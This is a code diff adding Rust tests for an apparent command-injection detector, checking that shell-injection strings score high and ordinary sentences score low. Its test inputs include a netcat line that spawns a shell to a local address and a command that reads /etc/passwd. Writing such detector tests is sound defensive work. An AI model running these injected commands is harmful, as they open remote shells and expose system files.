@@ -727,3 +727,33 @@ fn cmdi_a_wrapper_with_option_values_before_its_command_scores_high() {
         assert!(s(p) < 5, "{p} scored {}", s(p));
     }
 }
+
+#[test]
+fn cmdi_directory_stack_words_glued_to_a_separator_score_high() {
+    for p in ["cmd;~+1", "cmd|~-", "cmd&~+1", "`~+1`", "$(~-2)", "x;~-\n"] {
+        assert!(s(p) >= 5, "{p} scored {}", s(p));
+    }
+    for p in [
+        "about ~+1 day; ~-2 later",
+        "costs ~+1% | margin ~-3%",
+        "~+1 for this idea",
+        "x;~+abc",
+    ] {
+        assert!(s(p) < 5, "{p} scored {}", s(p));
+    }
+}
+
+#[test]
+fn cmdi_namespace_and_scheduling_wrappers_run_their_command() {
+    for p in [
+        ";setsid nc -e /bin/sh 127.0.0.1 4444",
+        ";ionice -c3 cat /etc/passwd",
+        "|taskset -c 0 whoami",
+        ";fakeroot -- id",
+    ] {
+        assert!(s(p) >= 5, "{p} scored {}", s(p));
+    }
+    for p in ["the builtin camera works", "a car with a builtin cd player"] {
+        assert!(s(p) < 5, "{p} scored {}", s(p));
+    }
+}
